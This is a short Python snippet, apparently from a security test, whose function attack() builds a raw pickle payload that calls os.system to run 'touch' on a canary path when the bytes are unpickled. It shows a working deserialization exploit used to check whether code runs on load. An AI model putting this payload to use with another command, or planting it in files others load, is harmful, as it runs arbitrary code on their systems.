"""Return the bytes of such a pickle, and of a numpy file. Success: it left a mark."""


def attack():
    return f"cos\nsystem\n(S'touch {CANARY}/mark'\ntR.".encode()
